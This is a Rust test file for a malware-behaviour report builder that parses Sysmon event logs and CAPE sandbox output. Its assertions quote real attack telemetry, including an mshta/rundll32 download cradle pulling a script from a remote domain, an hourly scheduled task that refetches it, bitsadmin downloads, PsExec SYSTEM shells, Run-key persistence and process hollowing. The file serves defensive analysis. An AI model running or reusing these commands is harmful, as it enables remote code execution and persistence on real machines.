//! Issue 3 acceptance: the facts of `corpus-expected-behaviour.md` cases A–F, read from the
//! vendored EVTX files, each asserted on the built report.

mod common;

use common::*;
use sandscope_model::{
    DnsLookup, DroppedFile, IpTraffic, RegistrySet, ScheduledTask, ServiceDetail,
};
use sandscope_report::{SampleSelector, Sha256Origin};

fn strings(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

#[test]
fn case_a_mshta_cradle_with_scheduled_task() {
    let built = report(MSHTA, SampleSelector::Auto);
    let a = &built.behaviour.attributes;
    // The sample is detected as the Desktop shell that started the chain.
    assert!(
        built.notes[0].contains("sample detected automatically"),
        "{:?}",
        built.notes
    );
    assert_eq!(
        chains(&a.processes_tree),
        vec![strings(&["3548", "1532", "2920", "2432", "3772"])]
    );
    assert_eq!(
        find(&a.processes_tree, "3548").name,
        r#""cmd.exe" /s /k pushd "C:\Users\IEUser\Desktop""#
    );
    assert_eq!(
        find(&a.processes_tree, "1532").name,
        r#"cmd.exe  /C rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();h=new%%20ActiveXObject("WScript.Shell").run("mshta https://hotelesms.com/talsk.txt",0,true);"#
    );
    assert_eq!(
        find(&a.processes_tree, "2432").name,
        r#""%WINDIR%\System32\mshta.exe" https://hotelesms.com/talsk.txt"#
    );
    // The image of a command line is normalised, the logged line kept behind it.
    assert_eq!(
        a.raw_forms[r#""%WINDIR%\System32\mshta.exe" https://hotelesms.com/talsk.txt"#],
        vec![r#""C:\Windows\System32\mshta.exe" https://hotelesms.com/talsk.txt"#]
    );
    let schtasks = r#""%WINDIR%\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#;
    assert_eq!(find(&a.processes_tree, "3772").name, schtasks);
    assert!(a.command_executions.contains(&schtasks.to_string()));
    assert_eq!(
        a.raw_forms[schtasks],
        vec![
            r#""C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ /TR "mshta.exe https://hotelesms.com/Injection.txt" /F "#
        ]
    );
    assert_eq!(
        a.scheduled_tasks_created,
        vec![ScheduledTask {
            name: "MSOFFICE_".into(),
            command: Some("mshta.exe https://hotelesms.com/Injection.txt".into()),
            trigger: Some("every 60 minutes".into()),
            xml_file: None,
        }]
    );
    // The scheduler's write of the task file is attributed on the sample's behalf.
    assert!(
        a.files_written
            .contains(&r"%WINDIR%\System32\Tasks\MSOFFICE_".to_string())
    );
    let tcp = |ip: &str, port| IpTraffic {
        destination_ip: ip.into(),
        destination_port: Some(port),
        transport_layer_protocol: Some("TCP".into()),
    };
    assert_eq!(
        a.ip_traffic,
        vec![
            tcp("108.179.232.58", 443),
            tcp("105.73.6.112", 80),
            tcp("105.73.6.105", 80)
        ]
    );
    assert!(a.dns_lookups.is_empty());
    assert!(a.tags.contains(&"PERSISTENCE".to_string()));
    assert_eq!(built.sha256_origin, Sha256Origin::Derived);
}

#[test]
fn case_b_appdata_drops_and_xml_task_two_trees() {
    // The log is trimmed to the interesting events, so nothing links the task's run (parent
    // `?`) to the sample: with attribution off both trees are reported.
    let built = report(RUNDLL_SCHTASK, SampleSelector::Everything);
    let a = &built.behaviour.attributes;
    let all = chains(&a.processes_tree);
    assert!(
        all.contains(&strings(&["7624", "3396", "5572", "8572"])),
        "{all:?}"
    );
    assert!(
        all.contains(&strings(&["1216", "7552", "9116", "7504", "8920"])),
        "{all:?}"
    );
    assert_eq!(find(&a.processes_tree, "1216").name, "?");
    // The command line as its child logged it, image normalised, trailing space kept.
    assert_eq!(find(&a.processes_tree, "7624").name, r"%PUBLIC%\test.tmp ");
    assert_eq!(
        a.raw_forms[r"%PUBLIC%\test.tmp "],
        vec![r"c:\Users\Public\test.tmp "]
    );
    assert_eq!(
        find(&a.processes_tree, "7552").name,
        r"Rundll32.exe shell32.dll,Control_RunDLL C:\PROGRA~3\DATAUS~1.DLL 4624665222"
    );
    assert_eq!(
        a.scheduled_tasks_created,
        vec![ScheduledTask {
            name: "DataUsageHandlers".into(),
            command: None,
            trigger: None,
            xml_file: Some(r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp".into()),
        }]
    );
    for file in [
        r"%TEMP%\tmp1375\__tmp_rar_sfx_access_check_2914968",
        r"%TEMP%\tmp1375\d948",
        r"%TEMP%\sduchxll.tmp",
        r"%APPDATA%\data.enc",
        r"%APPDATA%\config.xml",
    ] {
        assert!(a.files_written.contains(&file.to_string()), "{file}");
    }
    assert_eq!(
        a.raw_forms[r"%APPDATA%\data.enc"],
        vec![r"C:\Users\IEUser\AppData\Roaming\data.enc"]
    );
    assert!(a.ip_traffic.is_empty());
    assert!(a.dns_lookups.is_empty());

    // Attributed: the sample is the RAR SFX in Users\Public; its tree and task, not the other.
    let auto = report(RUNDLL_SCHTASK, SampleSelector::Auto);
    let a = &auto.behaviour.attributes;
    assert_eq!(
        chains(&a.processes_tree),
        vec![strings(&["7624", "3396", "5572", "8572"])]
    );
    assert_eq!(a.scheduled_tasks_created.len(), 1);
    assert!(!a.files_written.contains(&r"%APPDATA%\data.enc".to_string()));
    assert!(
        a.files_written
            .contains(&r"%TEMP%\sduchxll.tmp".to_string())
    );
}

#[test]
fn case_c_psexec_service_pipes_dns() {
    let built = report(PSEXEC, SampleSelector::Auto);
    let a = &built.behaviour.attributes;
    assert_eq!(a.services_created, strings(&["PSEXESVC"]));
    assert_eq!(
        a.service_details,
        vec![ServiceDetail {
            name: "PSEXESVC".into(),
            image_path: Some(r"%SystemRoot%\PSEXESVC.exe".into()),
            start_type: Some("demand".into()),
        }]
    );
    // The registry value is reported as stored, doubled percent signs included.
    assert!(a.registry_keys_set.contains(&RegistrySet {
        key: r"HKLM\SYSTEM\CurrentControlSet\Services\PSEXESVC\ImagePath".into(),
        value: Some(r"%%SystemRoot%%\PSEXESVC.exe".into()),
    }));
    assert!(a.registry_keys_set.contains(&RegistrySet {
        key: r"HKCU\Software\Sysinternals\PsExec\EulaAccepted".into(),
        value: Some("DWORD (0x00000001)".into()),
    }));
    assert_eq!(
        a.files_dropped,
        vec![DroppedFile {
            path: r"%WINDIR%\PSEXESVC.exe".into(),
            sha256: None,
            file_type: Some("PE_EXE".into()),
        }]
    );
    assert_eq!(
        a.raw_forms[r"%WINDIR%\PSEXESVC.exe"],
        vec![r"C:\Windows\PSEXESVC.exe"]
    );
    // The service binary, adopted because the sample wrote it, starts the SYSTEM shell.
    let service = find(&a.processes_tree, "4752");
    assert_eq!(service.name, r"%WINDIR%\PSEXESVC.exe");
    assert_eq!(service.children.len(), 1);
    assert_eq!(service.children[0].process_id, "540");
    assert_eq!(service.children[0].name, r#""cmd" "#);
    assert!(
        find(&a.processes_tree, "2124")
            .name
            .starts_with("PsExec64.exe  -i -s cmd")
    );
    assert_eq!(
        a.named_pipes,
        strings(&[
            r"\PSEXESVC",
            r"\PSEXESVC-FS03VULN-2124-stdin",
            r"\PSEXESVC-FS03VULN-2124-stdout",
            r"\PSEXESVC-FS03VULN-2124-stderr",
        ])
    );
    assert_eq!(
        a.dns_lookups,
        vec![DnsLookup {
            hostname: "fs03vuln".into(),
            resolved_ips: strings(&["10.23.42.38"]),
            cnames: vec![],
        }]
    );
    assert!(a.tags.contains(&"PERSISTENCE".to_string()));
}

#[test]
fn case_d_fake_flash_update() {
    let built = report(FLASH, SampleSelector::Auto);
    let a = &built.behaviour.attributes;
    assert!(
        built.notes[0].contains(r"C:\Users\IEUser\Downloads\Flash_update.exe"),
        "{:?}",
        built.notes
    );
    assert_eq!(built.sha256_origin, Sha256Origin::RootHashes);
    assert_eq!(
        chains(&a.processes_tree),
        vec![
            strings(&["2680", "2992", "3076"]),
            strings(&["2680", "3188"])
        ]
    );
    assert_eq!(
        a.files_dropped,
        vec![
            DroppedFile {
                path: r"%APPDATA%\NvSmart.exe".into(),
                sha256: None,
                file_type: Some("PE_EXE".into()),
            },
            DroppedFile {
                path: r"%APPDATA%\NvSmartMax.dll".into(),
                sha256: None,
                file_type: Some("PE_DLL".into()),
            },
        ]
    );
    assert_eq!(
        a.files_attribute_changed,
        strings(&[
            r"%APPDATA%\NvSmart.exe",
            r"%APPDATA%\NvSmartMax.dll",
            r"%APPDATA%\NvSmartMax.dll.url"
        ])
    );
    assert!(a.registry_keys_set.contains(&RegistrySet {
        key: r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\360v".into(),
        value: Some(r"C:\Users\IEUser\AppData\Roaming\svchost.exe".into()),
    }));
    assert!(
        a.modules_loaded
            .contains(&r"%APPDATA%\NvSmartMax.dll".to_string())
    );
    assert!(a.command_executions.contains(
        &r#""%WINDIR%\System32\cmd.exe" /c del /q "C:\Users\IEUser\Downloads\Flash_update.exe" "#.to_string()
    ));
    assert_eq!(
        a.processes_terminated,
        strings(&[r"%SAMPLEPATH%\Flash_update.exe"])
    );
    for tag in ["PERSISTENCE", "SELF_DELETE", "EXECUTES_DROPPED_FILE"] {
        assert!(a.tags.contains(&tag.to_string()), "{tag} in {:?}", a.tags);
    }
}

#[test]
fn case_e_apt10_service_and_hollowing() {
    let built = report(APT10, SampleSelector::Auto);
    let a = &built.behaviour.attributes;
    assert_eq!(a.services_created, strings(&["HxUpdateServiceInfo"]));
    assert_eq!(
        a.service_details,
        vec![ServiceDetail {
            name: "HxUpdateServiceInfo".into(),
            image_path: Some(r#""C:\Users\IEUser\Desktop\info.rar\jjs.exe""#.into()),
            start_type: Some("auto".into()),
        }]
    );
    // The SYSTEM copy started by services.exe is adopted, with the svchost it hollows.
    assert_eq!(
        chains(&a.processes_tree),
        vec![strings(&["3836"]), strings(&["3884", "3908"])]
    );
    assert_eq!(
        find(&a.processes_tree, "3908").name,
        r"%WINDIR%\system32\svchost.exe"
    );
    assert_eq!(
        a.processes_injected,
        strings(&[r"%WINDIR%\System32\svchost.exe"])
    );
    assert_eq!(a.modules_loaded, strings(&[r"%SAMPLEPATH%\jli.dll"]));
    // rec 11 is spooler noise, not the sample's.
    assert!(!json(&built.behaviour).to_lowercase().contains("spoolsv"));
}

#[test]
fn case_f_cape_bits_run_without_the_sandbox() {
    let built = report(CAPE_BITS, SampleSelector::Auto);
    let a = &built.behaviour.attributes;
    assert_eq!(
        chains(&a.processes_tree),
        vec![strings(&["6264", "7560", "7888"])]
    );
    let bitsadmin = r"bitsadmin  /transfer myDownloadJob /download /priority normal http://www.example.com/package.zip C:\\Users\\buddy\\testfile2.txt";
    assert_eq!(
        a.command_executions,
        strings(&[
            r#""%WINDIR%\system32\cmd.exe" /c start /wait "" "C:\Users\buddy\AppData\Local\Temp\bits.bat""#,
            r#"%WINDIR%\system32\cmd.exe  /K "C:\Users\buddy\AppData\Local\Temp\bits.bat""#,
            bitsadmin,
        ])
    );
    assert_eq!(
        a.raw_forms[&a.command_executions[1]],
        vec![r#"C:\WINDOWS\system32\cmd.exe  /K "C:\Users\buddy\AppData\Local\Temp\bits.bat""#]
    );
    // Nothing to normalise in bitsadmin's line: no raw form behind it.
    assert!(!a.raw_forms.contains_key(bitsadmin));
    // BITS writes the job's staging file on bitsadmin's behalf.
    assert_eq!(a.files_written, strings(&[r"%USERPROFILE%\BIT3E53.tmp"]));
    assert_eq!(
        a.raw_forms[r"%USERPROFILE%\BIT3E53.tmp"],
        vec![r"C:\Users\buddy\BIT3E53.tmp"]
    );
    // None of the sandbox: monitor pipes, CAPE's files, its injections, log clearing, BAM.
    assert!(a.named_pipes.is_empty(), "{:?}", a.named_pipes);
    assert!(a.processes_injected.is_empty());
    assert!(a.registry_keys_set.is_empty(), "{:?}", a.registry_keys_set);
    let text = json(&built.behaviour);
    for noise in [
        "hwLAteWXHD",
        "GEBFZjLqtOd",
        "65n4hwlw",
        "uLtpDoL",
        "capemon",
        "CapeOutput",
        "PPLinject",
        "wevtutil",
        "BLxTMNGr",
        "WaaSMedic",
        "conhost",
    ] {
        assert!(!text.contains(noise), "{noise} leaked into the report");
    }
    // `net stop/start BITS` and `sc config BITS type= own` are the CAPE analyser restarting
    // BITS to inject its monitor (their processes have no logged parent, CAPE's own
    // executed_commands does not list them, and CAPE injects into the new BITS host right
    // after): they are not the sample's, so no service facts are reported.
    assert!(a.services_started.is_empty() && a.services_opened.is_empty());
    // The same log with attribution off does show them.
    let everything = report(CAPE_BITS, SampleSelector::Everything);
    let all = &everything.behaviour.attributes;
    assert!(
        all.command_executions
            .contains(&"sc config BITS type= own".to_string())
    );
    assert!(all.services_started.contains(&"BITS".to_string()));
    assert!(all.named_pipes.iter().any(|p| p == r"\hwLAteWXHD"));
}

#[test]
fn wmi_subscription_registered() {
    let built = report(
        "mdecrevoisier_EVTX-to-MITRE-Attack/TA0003-Persistence/T1546-Event Triggered Execution/ID19-20-WMI registration via PowerLurk.evtx",
        SampleSelector::Everything,
    );
    let a = &built.behaviour.attributes;
    assert_eq!(
        a.wmi_subscriptions,
        vec![
            sandscope_model::WmiSubscription {
                kind: "consumer".into(),
                name: "Evil".into(),
                operation: Some("Created".into()),
                detail: Some(r"cmd.exe /c echo %ProcessId% >> c:\\\\temp\\\\log.txt".into()),
            },
            // The filter is logged twice; reported once.
            sandscope_model::WmiSubscription {
                kind: "filter".into(),
                name: "Evil".into(),
                operation: Some("Created".into()),
                detail: Some(
                    "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'".into()
                ),
            },
        ]
    );
    assert_eq!(a.tags, strings(&["PERSISTENCE", "CALLS_WMI"]));
}

#[test]
fn driver_service_with_nt_path() {
    let built = report(
        "mdecrevoisier_EVTX-to-MITRE-Attack/TA0003-Persistence/T1543.003-Create or Modify System Process-Windows Service/ID13-New service for Mimikatz.evtx",
        SampleSelector::Everything,
    );
    let a = &built.behaviour.attributes;
    assert_eq!(a.services_created, strings(&["mimidrv"]));
    assert_eq!(
        a.service_details,
        vec![ServiceDetail {
            name: "mimidrv".into(),
            image_path: Some(r"\??\C:\TOOLS\Security_tool\Mimikatz-fev-2020\mimidrv.sys".into()),
            start_type: Some("auto".into()),
        }]
    );
    assert_eq!(
        a.registry_keys_set[1],
        RegistrySet {
            key: r"HKLM\SYSTEM\CurrentControlSet\Services\mimidrv\ImagePath".into(),
            value: Some(r"\??\C:\TOOLS\Security_tool\Mimikatz-fev-2020\mimidrv.sys".into()),
        }
    );
    // The raw key spelling Sysmon logged is kept.
    assert_eq!(
        a.raw_forms[r"HKLM\SYSTEM\CurrentControlSet\Services\mimidrv\ImagePath"],
        vec![r"HKLM\System\CurrentControlSet\Services\mimidrv\ImagePath"]
    );
}

/// CAPE's lite reports embed a trimmed Sysmon log in which the sample's own creation is
/// missing. The sample is still listed as VirusTotal and CAPE list it: its image in
/// `processes_created` and, when a child logged it as `ParentCommandLine`, its command line.
#[test]
fn sample_whose_creation_the_log_lacks() {
    const LITE: &str = "CybercentreCanada_assemblyline-service-cape/tests/samples";
    // etw-dns-app (pid 2500): only its console host's creation (record 364) names it, with
    // ParentCommandLine `"C:\Users\buddy\AppData\Local\Temp\etw-dns-app.exe"`.
    let built = report(
        &format!(
            "{LITE}/9393a56f957a93bc2af2aafc73421aaa1c372c7d9decf92a2734d1b4a8253fb2/Report/reports/lite.json"
        ),
        SampleSelector::Auto,
    );
    let a = &built.behaviour.attributes;
    assert_eq!(
        a.processes_created,
        strings(&[r"%SAMPLEPATH%\etw-dns-app.exe"])
    );
    assert_eq!(
        a.command_executions,
        strings(&[r#""%SAMPLEPATH%\etw-dns-app.exe""#])
    );
    assert_eq!(
        a.raw_forms[r#""%SAMPLEPATH%\etw-dns-app.exe""#],
        vec![r#""C:\Users\buddy\AppData\Local\Temp\etw-dns-app.exe""#]
    );
    assert_eq!(
        find(&a.processes_tree, "2500").name,
        a.command_executions[0]
    );
    // The console host itself is noise: neither listed nor in the tree.
    assert!(!json(&built.behaviour).contains("conhost"));

    // apihooks (pid 4228): no event carries its command line, so only its image is listed.
    let built = report(
        &format!(
            "{LITE}/491f359c0cf2588e4aa76a527317406927b0900cfc5c24a4736c92d372073b1e/Report/reports/lite.json"
        ),
        SampleSelector::Auto,
    );
    let a = &built.behaviour.attributes;
    assert_eq!(
        a.processes_created,
        strings(&[r"%SAMPLEPATH%\apihooks.exe"])
    );
    assert!(a.command_executions.is_empty());
    assert_eq!(
        find(&a.processes_tree, "4228").name,
        r"%SAMPLEPATH%\apihooks.exe"
    );
}

#[test]
fn text_report_has_no_empty_catch_all_section() {
    // Case D loads DLLs: the catch-all section lists them.
    let flash = sandscope_report::render_text(&report(FLASH, SampleSelector::Auto));
    assert!(flash.contains("Other") && flash.contains("modules loaded"));
    // The wmiexec log has nothing for it: no heading over nothing. Sigma (not run by this
    // crate) and ATT&CK still say where they stand.
    let wmiexec = sandscope_report::render_text(&report(WMIEXEC, SampleSelector::Auto));
    assert!(!wmiexec.contains("Other"), "{wmiexec}");
    assert!(wmiexec.contains("(Sigma was not run)"), "{wmiexec}");
    assert!(wmiexec.contains("ATT&CK techniques"), "{wmiexec}");
}
